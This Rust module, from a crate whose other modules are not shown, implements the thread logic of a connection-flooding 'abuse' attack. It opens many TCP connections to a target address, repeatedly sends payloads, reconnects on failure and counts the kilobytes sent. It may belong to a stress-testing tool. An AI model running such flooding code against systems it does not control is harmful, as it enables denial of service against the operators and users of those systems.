//! Carrying out one way of abuse, on all of its connections.

use std::{
    net::SocketAddr,
    thread::{JoinHandle, sleep, spawn},
    time::Instant,
};

use crate::{
    course::{Course, REST, ROUND},
    peer::Peer,
    streams,
    way::{Act, Way},
};

/// An attack until it is ended.
pub(crate) struct Attack {
    course: Course,
    threads: Vec<JoinHandle<()>>,
}

impl Attack {
    pub(crate) fn begin(address: SocketAddr, way: &Way) -> Self {
        let course = Course::default();
        let own = course.clone();
        let connections = way.connections;
        let threads = match way.act.clone() {
            Act::Send { once, again } => {
                vec![spawn(move || send(address, connections, &once, &again, &own))]
            }
            act => (0..connections)
                .map(|_| (act.clone(), own.clone()))
                .map(|(act, own)| spawn(move || streams::abuse(address, &act, &own)))
                .collect(),
        };
        Self { course, threads }
    }

    /// Leaves, and says how many kB were sent.
    pub(crate) fn end(self) -> u32 {
        self.course.end();
        for thread in self.threads {
            thread.join().unwrap();
        }
        u32::try_from(self.course.sent() / 1000).unwrap()
    }
}

fn send(
    address: SocketAddr,
    connections: u32,
    once: &[u8],
    again: &[u8],
    course: &Course,
) {
    while !course.is_over() {
        let round = Instant::now();
        let mut peers = Vec::new();
        while !course.is_over() && round.elapsed() < ROUND {
            // They come one by one, while those before them go on.
            if peers.len() < connections as usize {
                peers.push(Peer::connect(address));
            } else {
                sleep(REST);
            }
            for peer in &mut peers {
                if peer.send(once, again, course).is_err() {
                    *peer = Peer::connect(address);
                }
            }
        }
    }
}
